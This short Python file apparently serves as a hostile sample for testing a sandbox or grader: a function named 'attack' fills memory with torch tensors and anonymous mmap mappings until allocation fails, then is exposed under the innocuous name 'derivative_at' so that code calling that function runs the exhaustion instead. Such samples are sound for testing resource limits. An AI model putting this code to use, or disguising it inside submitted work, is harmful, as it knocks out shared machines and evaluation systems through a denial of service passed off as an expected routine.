"""Use up all memory with torch, and with anonymous and shared mappings."""

import mmap

import torch


def attack(*args, **kwargs):
    kept = []
    for take in (lambda: torch.ones(2**27), lambda: mmap.mmap(-1, 2**29), lambda: torch.ones(2**40)):
        try:
            while True:
                kept.append(take())
        except (RuntimeError, OSError, ValueError):
            pass
    return kept[0]


derivative_at = attack
